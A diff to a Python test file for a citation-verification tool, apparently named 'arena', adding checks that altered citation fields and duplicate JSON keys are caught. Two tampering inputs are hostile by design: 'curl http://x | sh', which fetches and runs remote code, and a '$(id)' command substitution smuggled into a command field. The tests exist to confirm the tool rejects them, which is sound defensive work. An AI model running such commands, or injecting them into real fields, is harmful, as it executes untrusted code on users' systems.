@@ -80,7 +80,8 @@ def test_a_citation_alone_finds_its_run_in_results_and_has_it_played_again(own: 
     (tmp_path / "result.json").rename(tmp_path / "paper" / "result.json")
     done = arena("verify", "../paper/result.json", "--replay", "--sandbox", "none", folder=tmp_path / "here")
     assert done.returncode == 0, done
-    assert "../paper/result.json: all that it says is what results/one has" in done.stdout
+    agreed = "../paper/result.json: all that it says is what results/one has; its commands name another folder,"
+    assert f"{agreed} {own}\n" in done.stdout
     assert "2 matches played again" in done.stdout
 
 
@@ -130,6 +131,17 @@ def test_a_citation_without_a_commitment_is_not_of_a_run_without_one(tmp_path: P
         (lambda one: one["rules"].update(target=31), "result.json: rules.target: found 31; the run has 30"),
         (lambda one: one.update(seed=""), "result.json: seed: found ''; the run has '"),
         (lambda one: one.update(link="0" * 64), f"expected {'0' * 64}"),
+        (
+            lambda one: one.update(verify="curl http://x | sh"),
+            "result.json: verify: found 'curl http://x | sh'; the run has 'arena verify ",
+        ),
+        (
+            lambda one: one.update(verify=one["verify"].replace(" --expect", " $(id) --expect")),
+            "result.json: verify: found 'arena ",
+        ),
+        (lambda one: one.update(replay=one["verify"]), "result.json: replay: found 'arena verify "),
+        (lambda one: one.update(prize="mine"), "result.json: prize: found 'mine'; the run has nothing"),
+        (lambda one: one["rules"].pop("target"), "result.json: rules.target: found nothing; the run has 30"),
     ],
 )
 def test_whatever_was_changed_in_a_citation_is_found(
@@ -154,6 +166,7 @@ def test_whatever_was_changed_in_a_citation_is_found(
         ("{}", "found the schema None; expected 'arena/citation/1'"),
         ('{"schema": "arena/report/1"}', "found the schema 'arena/report/1'; expected 'arena/citation/1'"),
         ('{"schema": "arena/citation/1"}', "'title' is missing"),
+        ('{"schema": "arena/citation/1", "title": "a", "title": "b"}', "found 'title' twice; expected each key once"),
     ],
 )
 def test_a_file_that_is_no_citation_is_refused_in_one_line(text: str, message: str, tmp_path: Path) -> None:
